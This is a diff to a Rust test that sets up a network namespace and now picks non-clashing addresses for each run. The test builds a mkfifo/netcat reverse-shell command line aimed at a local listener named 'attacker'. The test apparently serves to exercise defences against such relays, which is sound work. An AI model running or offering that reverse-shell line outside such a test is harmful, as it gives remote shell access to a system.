@@ -29,7 +29,9 @@ fn fifo_relay_in_namespaces() {
     require!("bash", "nc.openbsd", "ip", "unshare");
     Daemon::shared();
     let net = Net(token());
-    let (here, there) = ("10.234.7.1", "10.234.7.2");
+    // Another run at the same time, or what one left that was killed, has other addresses.
+    let (high, low) = (std::process::id() / 60 % 250, std::process::id() % 60 * 4);
+    let [here, there] = [1, 2].map(|last| format!("10.234.{high}.{}", low + last));
     let (outer, inner) = (format!("o{}", &net.0[4..]), format!("i{}", &net.0[4..]));
     run(&["netns", "add", &net.0]);
     run(&["link", "add", &outer, "type", "veth", "peer", "name", &inner, "netns", &net.0]);
@@ -37,7 +39,7 @@ fn fifo_relay_in_namespaces() {
     run(&["link", "set", &outer, "up"]);
     run(&["-n", &net.0, "addr", "add", &format!("{there}/30"), "dev", &inner]);
     run(&["-n", &net.0, "link", "set", &inner, "up"]);
-    let attacker = Listener::at(here);
+    let attacker = Listener::at(&here);
     let line = format!(
         "mount -t tmpfs none /mnt; cd /mnt; mkfifo f; sh -i <f 2>&1 | nc.openbsd {here} {} >f",
         attacker.port()
